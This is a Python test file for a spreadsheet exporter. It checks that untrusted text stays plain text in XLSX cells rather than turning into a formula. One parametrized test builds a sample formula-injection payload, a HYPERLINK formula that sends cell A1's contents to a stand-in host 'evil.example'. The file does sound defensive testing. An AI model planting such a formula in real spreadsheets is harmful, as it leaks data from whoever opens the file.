"""``fundmgr.spreadsheet``: every XLSX the product writes is made of its
sheets (through ``fundmgr.exporters``), in which a string is text unless the
product marks it as a Formula
(docs/security.md, "Outside text is data"). The services' own tests read
their workbooks back (tests/reports/test_workbook_outside_text.py,
tests/grants/test_grant_export.py); these prove the rule for any text."""

from __future__ import annotations

import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell import WriteOnlyCell

from fundmgr.spreadsheet import BOLD, NOT_XML, Book, Cell, Formula

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "#", "'", " "]

#: Any text XML can hold: no surrogates, no control character but tab, LF, CR.
xml_text = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\ufffe\uffff").filter(
        lambda c: not NOT_XML.match(c)
    ),
    min_size=1,
    max_size=60,
)
outside_text = st.one_of(
    xml_text, st.builds(lambda p, t: p + t, st.sampled_from(PREFIXES), xml_text)
)


def written(rows: list[list]):
    handle = io.BytesIO()
    book = Book(handle)
    sheet = book.add_sheet("Sheet")
    for row in rows:
        sheet.append(row)
    book.close()
    handle.seek(0)
    return load_workbook(handle)["Sheet"]


@settings(max_examples=150, deadline=None)
@given(text=outside_text)
def test_any_text_reads_back_identical_and_as_a_string(text):
    # As a plain value and in a styled cell object, as the exporters write it.
    sheet = written([[text, Cell(text, BOLD)]])
    assert [(c.value, c.data_type) for c in sheet[1]] == [(text, "s"), (text, "s")]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_text_starting_with_a_formula_character_is_text(prefix):
    text = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"Thanks")'
    [cell] = written([[text]])[1]
    assert (cell.value, cell.data_type) == (text, "s")


def test_only_a_formula_marked_as_such_is_a_formula():
    sheet = written([[1, 2, Formula("=SUM(A1:B1)"), "=SUM(A1:B1)"]])
    assert [(c.value, c.data_type) for c in sheet[1]] == [
        (1, "n"),
        (2, "n"),
        ("=SUM(A1:B1)", "f"),
        ("=SUM(A1:B1)", "s"),
    ]


def test_a_formula_must_start_with_an_equals_sign():
    with pytest.raises(ValueError, match="starts with '='"):
        Formula("SUM(A1:B1)")


def test_a_sheet_refuses_another_librarys_cells_which_guess_formulas():
    book = Book(io.BytesIO())
    sheet = book.add_sheet("Sheet")
    with pytest.raises(ValueError, match="Cannot convert"):
        sheet.append([WriteOnlyCell(None, "=1+1")])
    book.close()


def test_text_that_looks_like_one_of_excels_escapes_is_escaped_itself():
    """Excel reads ``_x0041_`` in a text as "A": it is written as
    ``_x005F_x0041_``, which Excel shows as typed (openpyxl reads it raw)."""
    [cell] = written([["INV_x0041_42"]])[1]
    assert (cell.value, cell.data_type) == ("INV_x005F_x0041_42", "s")


@pytest.mark.parametrize("bad", ["\x00", "\x1b", "\x0b", "\ufffe", "\uffff"], ids=repr)
def test_a_character_xml_cannot_hold_is_shown_as_the_replacement_character(bad):
    [cell] = written([[f"INV{bad}42"]])[1]
    assert (cell.value, cell.data_type) == ("INV\ufffd42", "s")
